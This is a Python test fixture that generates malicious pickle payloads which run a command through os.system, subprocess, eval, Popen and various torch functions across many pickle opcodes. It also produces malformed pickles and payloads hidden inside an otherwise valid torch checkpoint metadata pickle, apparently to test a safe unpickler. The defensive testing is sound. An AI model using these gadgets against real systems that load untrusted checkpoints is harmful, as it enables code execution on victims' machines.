"""Pickles that mean harm: each runs a command that makes a canary file, if anything unpickles it carelessly."""

import pickle
import struct
from collections.abc import Iterator
from typing import Any


class Reduce:
    """Pickles as a call."""

    def __init__(self, function: Any, *args: Any) -> None:
        self._call = function, args

    def __reduce__(self) -> Any:
        return self._call


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _stack_global(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + b"\x93"


def calls(command: str) -> Iterator[tuple[str, bytes]]:
    """Pickles without a frame around them, by name; each leaves one object on the stack."""
    code = f"__import__('os').system({command!r})"
    called_with = {
        ("os", "system"): command,
        ("posix", "system"): command,
        ("subprocess", "getoutput"): command,
        ("builtins", "eval"): code,
        ("builtins", "exec"): code,
        ("__builtin__", "eval"): code,
        ("timeit", "timeit"): code,
        ("pdb", "run"): code,
        ("cProfile", "run"): code,
        ("torch._utils", "_import_dotted_name"): "os.system",
        ("importlib", "import_module"): "antigravity",
        ("pickle", "loads"): code,
        ("torch.hub", "load"): command,
        ("torch.storage", "_load_from_bytes"): code,
        ("torch.utils.collect_env", "run"): command,
        ("torch.distributed.checkpoint.metadata", "os.system"): command,
        ("torch.distributed.checkpoint.filesystem", "os.system"): command,
        ("torch.distributed.checkpoint.filesystem", "pickle.loads"): code,
        ("torch.distributed.checkpoint.filesystem", "_StorageInfo.__init__.__globals__"): command,
        ("torch.serialization", "os.system"): command,
        ("torch", "serialization.os.system"): command,
        ("torch", "load"): command,
        ("torch", "Size.__class__"): command,
    }
    for (module, name), argument in called_with.items():
        title = f"{module}.{name}"
        yield f"reduce {title}", _global(module, name) + _text(argument) + b"\x85R"
        yield f"stack-global {title}", b"\x80\x04" + _stack_global(module, name) + _text(argument) + b"\x85R"
        yield f"inst {title}", b"(" + _text(argument) + b"i" + module.encode() + b"\n" + name.encode() + b"\n"
        yield f"obj {title}", b"(" + _global(module, name) + _text(argument) + b"o"
        yield f"newobj {title}", b"\x80\x02" + _global(module, name) + _text(argument) + b"\x85\x81"
    size = _stack_global("torch", "Size")
    getattr_ = _global("builtins", "getattr")
    yield (
        "getattr chain",
        getattr_ + _global("os", "path") + _text("os") + b"\x86R" + _text("system") + b"\x86R",
    )
    yield "class as argument", b"\x80\x04" + getattr_ + size + _text("__subclasses__") + b"\x86R)R"
    yield "attribute on a class", b"\x80\x04" + size + b"N}" + _text("__reduce__") + _text("x") + b"s\x86b"
    yield "state on a class", b"\x80\x04" + size + b"}" + _text("__init__") + _text("x") + b"sb"
    yield "persistent id", b"P" + command.encode() + b"\n"
    yield "binary persistent id", _text(command) + b"Q"
    yield "extension", b"\x82\x01"
    yield "call of a dtype", b"\x80\x04" + _stack_global("torch", "float32") + b")R"
    yield "newobj-ex", b"\x80\x04" + _stack_global("subprocess", "Popen") + _text(command) + b"\x85}\x92"
    yield "unknown opcode", b"\xff"
    yield "stack underflow", b"R"
    yield "deep nesting", b"(" * 50_000 + b"l" * 50_000
    yield "huge length", b"\x8e" + struct.pack("<Q", 1 << 62) + b"x"
    yield "memo of nothing", b"j\xff\xff\xff\x7f"


def pickles(command: str) -> Iterator[tuple[str, bytes]]:
    """Whole files: each call alone, and hidden beside an otherwise sound index."""
    for name, body in calls(command):
        yield name, body + b"."
    for name, body in calls(command):
        yield f"{name}, in a list", b"\x80\x04]" + body + b"a."
    for place in ("planner_data", "storage_meta", "version"):
        for name, body in list(calls(command))[::9]:
            yield f"{name}, as {place}", _beside(place, body)


def _beside(place: str, body: bytes) -> bytes:
    from torch.distributed.checkpoint.metadata import Metadata

    sound = pickle.dumps(Metadata(state_dict_metadata={}, storage_data={}), protocol=2)
    return sound[:-2] + _text(place) + body + b"sb."  # ...state} then one more item, BUILD, STOP
